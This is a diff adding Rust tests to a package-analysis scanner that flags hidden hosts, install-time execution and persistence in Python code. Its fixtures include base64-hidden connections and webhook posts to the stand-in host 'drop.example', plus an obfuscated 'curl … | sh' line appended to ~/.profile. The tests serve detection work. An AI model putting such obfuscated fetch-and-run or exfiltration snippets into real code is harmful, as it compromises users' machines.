@@ -1,7 +1,7 @@
 //! The ways that things take to where they are sent or run, one case a way: commands, files, libraries that send,
 //! addresses that are hidden, and what is read into objects.
 
-use crate::{SourceFile, analyse_package};
+use crate::{SourceFile, Stage, analyse_package};
 use wellhead_core::Budget;
 
 /// The kinds and sources of all calls with an effect.
@@ -286,6 +286,61 @@ fn an_address_that_is_hidden_in_data_is_told() {
         let told = told(&format!("import base64, requests\ndef f(key):\n    {text}\n"));
         let is_hidden = told.iter().any(|t| t.contains("hidden-address"));
         assert_eq!(is_hidden, hidden, "{text}\n{told:#?}");
+    }
+}
+
+#[test]
+fn a_host_that_is_hidden_in_data_is_told_of_what_is_made_from_it() {
+    // `drop.example` and `https://drop.example/x`
+    for text in [
+        "import socket\ns = socket.socket()\ns.connect((base64.b64decode('ZHJvcC5leGFtcGxl').decode(), 443))\n",
+        "import http.client\nhttp.client.HTTPSConnection(base64.b64decode('ZHJvcC5leGFtcGxl').decode()).request('POST', '/')\n",
+        "from discord_webhook import DiscordWebhook\nDiscordWebhook(url=base64.b64decode('aHR0cHM6Ly9kcm9wLmV4YW1wbGUveA==')).execute()\n",
+    ] {
+        let told = told(&format!("import base64\n{text}"));
+        assert!(
+            told.iter().any(|t| t.contains("hidden-address")),
+            "{text}\n{told:#?}"
+        );
+    }
+}
+
+#[test]
+fn what_a_setup_script_guards_runs_when_it_is_installed() {
+    let stage = |path: &str| {
+        let text = "import os\nif __name__ == '__main__':\n    os.system('id')\n";
+        let files = [SourceFile { path, text }];
+        let analysis = analyse_package(&files, &mut Budget::default());
+        analysis.records.first().map(|r| r.stage)
+    };
+    for (path, expected) in [
+        ("setup.py", Stage::Import),
+        ("pkg/__main__.py", Stage::Import),
+        ("pkg/__init__.py", Stage::Call),
+        ("pkg/setup.py", Stage::Call),
+    ] {
+        assert_eq!(stage(path), Some(expected), "{path}");
+    }
+}
+
+#[test]
+fn what_is_computed_and_put_where_it_runs_is_hidden() {
+    for (text, expected) in [
+        (
+            r"
+h = ''.join([chr(ord(c) - 1) for c in 'dvsm!iuuqt;00espq/fybnqmf!}!tif'])
+with open('/home/u/.profile', 'a') as k:
+    k.write(h)",
+            "write-then-run <- decoded",
+        ),
+        (
+            r"
+with open('/home/u/.profile', 'a') as k:
+    k.write('export PATH=$PATH:$HOME/.tool/bin')",
+            "persistence",
+        ),
+    ] {
+        expect(text, expected);
     }
 }
 
